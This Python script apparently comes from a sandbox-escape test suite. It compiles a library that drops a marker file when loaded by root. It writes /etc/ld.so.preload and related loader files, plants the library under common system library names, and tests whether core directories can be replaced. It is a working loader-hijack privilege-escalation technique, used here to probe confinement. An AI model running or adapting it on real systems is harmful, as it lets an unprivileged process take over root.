"""Lays down what a loader reads before root's programs run, and looks after a revival what did."""

import glob
import os
import subprocess

from attacker import attempt, got_it, note
from revived import revived

LIBRARY = r"""
#include <fcntl.h>
#include <unistd.h>
__attribute__((constructor)) static void ran(void) {
    if (getuid() == 0 || geteuid() == 0)
        close(open("/as-root", O_WRONLY | O_CREAT, 0644));
}
"""
LOADERS = ("/lib64/ld-linux-x86-64.so.2", "/lib/ld-linux-aarch64.so.1")
# What a program that drops rights is likely to load.
NAMES = ("libcap-ng.so.0", "libcap.so.2", "libpam.so.0", "libselinux.so.1")


def put(path, data=b"/evil.so\n"):
    """Over what is there, beside it, or in the place of it."""
    attempt(f"write {path}", lambda: open(path, "wb").write(data))
    with open(f"{path}.new", "wb") as file:
        file.write(data)
    attempt(f"rename over {path}", os.rename, f"{path}.new", path)
    if attempt(f"unlink {path}", lambda: os.unlink(path) or True):
        open(path, "wb").write(data)


def lay():
    """All that glibc's loader looks at: its list, its cache, its folders by hardware and by machine."""
    with open("evil.c", "w") as file:
        file.write(LIBRARY)
    subprocess.run(["cc", "-shared", "-fPIC", "-o", "/evil.so", "evil.c"], check=True)
    evil = open("/evil.so", "rb").read()
    put("/etc/ld.so.preload")
    put("/etc/ld.so.cache", b"glibc-ld.so.cache1.1")
    put("/etc/ld.so.conf", b"/\n")
    for folder in ("/lib", "/lib/x86_64-linux-gnu", "/lib/aarch64-linux-gnu", "/lib64"):
        for sub in ("", "/glibc-hwcaps/x86-64-v3", "/glibc-hwcaps/x86-64-v2", "/tls", "/atomics"):
            attempt(f"make {folder}{sub}", os.makedirs, f"{folder}{sub}", 0o755, True)
            for name in NAMES:
                attempt(
                    f"{folder}{sub}/{name}", lambda path=f"{folder}{sub}/{name}": open(path, "wb").write(evil)
                )
    for name in ("/etc", "/lib", "/lib64", "/bin", *LOADERS, *glob.glob("/lib/*-linux-gnu")):
        # Back again where it went: a task that cannot start shows nothing.
        if attempt(f"move {name}", lambda name=name: os.rename(name, f"{name}.old") or True):
            note(f"{name} can be replaced")
            os.rename(f"{name}.old", name)


def look():
    """Nothing of it may have run as root."""
    found = attempt("/as-root", os.stat, "/as-root")
    if found is not None:
        got_it(f"its library ran as user {found.st_uid}")
    note(sorted(os.listdir("/")))


revived(lay, look)
